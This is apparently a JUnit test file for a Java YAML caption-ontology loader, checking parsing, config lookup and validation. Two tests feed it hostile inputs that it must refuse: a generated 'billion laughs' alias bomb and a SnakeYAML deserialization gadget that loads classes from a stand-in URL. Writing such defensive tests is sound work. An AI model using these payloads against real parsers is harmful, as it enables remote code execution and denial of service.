package dev.autodistill4j.runtime.ontology;

import dev.autodistill4j.api.ontology.CaptionOntology;
import dev.autodistill4j.api.ontology.OntologyException;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class OntologyLoaderTest {
    @TempDir
    Path dir;

    private Path write(String name, String text) throws Exception {
        Path p = dir.resolve(name);
        Files.writeString(p, text);
        return p;
    }

    @Test
    void readsPlainMappingInOrderWithSharedClasses() throws Exception {
        CaptionOntology o = OntologyLoader.load(write("o.yaml", """
                "The Chrysler Building": chrysler building
                a yellow cab: taxi
                a taxi: taxi
                "1": 2
                """));
        assertThat(o.prompts()).containsExactly("The Chrysler Building", "a yellow cab", "a taxi", "1");
        assertThat(o.classes()).containsExactly("chrysler building", "taxi", "2");
        assertThat(o.classIdOfPrompt(2)).isEqualTo(1);
    }

    @Test
    void numbersAsPromptsOrClassesKeepTheirTextAsWritten() throws Exception {
        CaptionOntology o = OntologyLoader.load(write("n.yaml", """
                a photo of the year 1.5e400: 1.5e400
                1e3: 0x1F
                0.10: -.inf
                2001: 1_000
                """));
        assertThat(o.classes()).containsExactly("1.5e400", "0x1F", "-.inf", "1_000")
                .noneMatch(c -> c.contains("Infinity"));
        assertThat(o.prompts()).containsExactly("a photo of the year 1.5e400", "1e3", "0.10", "2001");
    }

    @Test
    void readsOntologyKeyOfAFullConfig() throws Exception {
        CaptionOntology o = OntologyLoader.load(write("c.yaml", """
                model: metaclip
                confidence: 0.5
                ontology:
                  a cat: cat
                  a dog: dog
                """));
        assertThat(o.classes()).containsExactly("cat", "dog");
    }

    @Test
    void followsAConfigWhoseOntologyNamesAFile() throws Exception {
        write("classes.yaml", "a cat: cat\n");
        CaptionOntology o = OntologyLoader.load(write("c.yaml", "model: metaclip\nontology: classes.yaml\n"));
        assertThat(o.classes()).containsExactly("cat");
        // without config keys, "ontology" is an ordinary prompt
        assertThat(OntologyLoader.load(write("p.yaml", "ontology: science\n")).classes()).containsExactly("science");
    }

    @Test
    void refusesBillionLaughs() throws Exception {
        StringBuilder b = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char prev = 'a';
        for (char c = 'b'; c <= 'j'; c++) {
            b.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                b.append(i == 0 ? "" : ",").append('*').append(prev);
            }
            b.append("]\n");
            prev = c;
        }
        Path p = write("laughs.yaml", b.toString());
        assertThatThrownBy(() -> OntologyLoader.load(p)).isInstanceOf(OntologyException.class)
                .hasMessageContaining("laughs.yaml").hasMessageContaining("refused").hasMessageContaining("aliases");
    }

    @Test
    void refusesJavaTypeTags() throws Exception {
        Path p = write("evil.yaml", """
                a cat: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                """);
        assertThatThrownBy(() -> OntologyLoader.load(p)).isInstanceOf(OntologyException.class)
                .hasMessageContaining("evil.yaml").hasMessageContaining("refused");
        Path custom = write("custom.yaml", "a cat: !custom cat\n");
        assertThatThrownBy(() -> OntologyLoader.load(custom)).isInstanceOf(OntologyException.class)
                .hasMessageContaining("refused");
    }

    @Test
    void refusesWhatWouldBeAWrongDataset() throws Exception {
        assertThatThrownBy(() -> OntologyLoader.load(write("empty.yaml", "{}\n")))
                .isInstanceOf(OntologyException.class).hasMessageContaining("empty");
        assertThatThrownBy(() -> OntologyLoader.load(write("dup.yaml", "a cat: cat\na cat: dog\n")))
                .isInstanceOf(OntologyException.class).hasMessageContaining("dup.yaml");
        assertThatThrownBy(() -> OntologyLoader.load(write("blank.yaml", "a cat: \"  \"\n")))
                .isInstanceOf(OntologyException.class).hasMessageContaining("blank class");
        assertThatThrownBy(() -> OntologyLoader.load(write("bool.yaml", "yes: cat\n")))
                .isInstanceOf(OntologyException.class).hasMessageContaining("boolean");
        assertThatThrownBy(() -> OntologyLoader.load(write("list.yaml", "- a\n- b\n")))
                .isInstanceOf(OntologyException.class).hasMessageContaining("mapping");
        assertThatThrownBy(() -> OntologyLoader.load(dir.resolve("missing.yaml")))
                .isInstanceOf(OntologyException.class).hasMessageContaining("does not exist");
        Path latin1 = dir.resolve("latin1.yaml");
        Files.write(latin1, new byte[] {'c', (byte) 0xe9, ':', ' ', 'x', '\n'});
        assertThatThrownBy(() -> OntologyLoader.load(latin1)).isInstanceOf(OntologyException.class)
                .hasMessageContaining("UTF-8");
    }

    @Test
    void builtInCodeEqualsLoaded() throws Exception {
        assertThat(OntologyLoader.load(write("o.yaml", "red: red\nblue: blue\n")))
                .isEqualTo(CaptionOntology.ofClasses(List.of("red", "blue")));
    }
}
